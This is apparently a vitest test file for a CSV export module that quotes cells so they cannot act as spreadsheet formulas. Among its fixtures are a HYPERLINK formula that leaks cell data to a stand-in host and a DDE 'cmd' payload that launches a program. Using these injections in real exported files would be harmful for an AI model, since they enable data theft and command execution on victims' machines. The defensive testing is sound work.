import { expect, test } from 'vitest'
import { escapeFormulas, unescapeFormulas, writeCsvLine } from './spreadsheet.ts'

test('a text that begins as a formula gets a quote, also where a spreadsheet of another delimiter begins a cell', {
  tags: ['formula-starts'],
}, () => {
  for (const [text, cell] of [
    ['=HYPERLINK("http://evil.test/?"&B2,"open")', '\'=HYPERLINK("http://evil.test/?"&B2,"open")'],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\nBonjour', "'\nBonjour"],
    ['＝1', "'＝1"],
    ['＠SUM(1)', "'＠SUM(1)"],
    [' =1', "' =1"],
    ['\u00a0\u200b+A1', "'\u00a0\u200b+A1"],
    ['\0=1', "'\0=1"],
    ['"=1"', `'"=1"`],
    ['Bonjour;=1+1;\n-2,@a', "Bonjour;'=1+1;\n'-2,'@a"],
    ["Salma; =cmd|' /C calc'!A0", "Salma;' =cmd|' /C calc'!A0"],
    ['Salma;"=1+1"', `Salma;'"=1+1"`],
    ['Salma\t＋A1', "Salma\t'＋A1"],
    ...['', 'Salma', "l'Oréal", 'a=b', 'Bonjour,\n\nje postule', '2026-03-01', '1-2'].map((text) => [text, text]),
  ] as [string, string][])
    expect(escapeFormulas(text)).toBe(cell)
})

test.each([
  '+212 600 000 000',
  '+212600000000',
  '+33 (0)6.12.34.56.78',
  '+212 6 00-00-00',
  '+1 (555) 010-9999',
  ' +212 600',
])('the telephone number %s is no formula', (telephone) => {
  expect(escapeFormulas(telephone)).toBe(telephone)
  expect(escapeFormulas(`Salma;${telephone},fin`)).toBe(`Salma;${telephone},fin`)
})

test.each([
  '+1+1',
  '-1+1',
  '+1-1',
  '+212-600-000',
  '+(100)-(200)',
  '+100 - 1000',
  '+',
  '+1',
  '+1 2',
  '-5',
  '-212 600 000',
  '+212 600+A1',
  '+212 600*1',
  '+212 600!',
  '=+212 600',
])('%s is no telephone number, and gets a quote', (sum) => {
  expect(escapeFormulas(sum)).toBe(`'${sum}`)
  expect(escapeFormulas(`Salma;${sum},fin`)).toBe(`Salma;'${sum},fin`)
})

test('unescapeFormulas gives back every text, also one that begins with a quote itself', () => {
  const parts = ['', "'", "''", '=', '-', ';', ',', '\n', '\t', 'a', '"', ' ', '+123 456']
  for (const a of parts)
    for (const b of parts)
      for (const c of parts)
        for (const d of parts) {
          const text = a + b + c + d
          expect(unescapeFormulas(escapeFormulas(text))).toBe(text)
        }
})

test('a cell is in quotes if it has a delimiter of any country, a quote or a line end', () => {
  const cells = ['Salma', 'a,b', 'a;b', 'a\tb', 'a\rb', 'a\nb', 'a "b"', "'a", '']
  const quoted = `"a,b"|"a;b"|"a\tb"|"a\rb"|"a\nb"|"a ""b"""`
  for (const delimiter of [',', ';'] as const)
    expect(writeCsvLine(cells, delimiter)).toBe(`Salma|${quoted}|'a|`.replaceAll('|', delimiter))
})
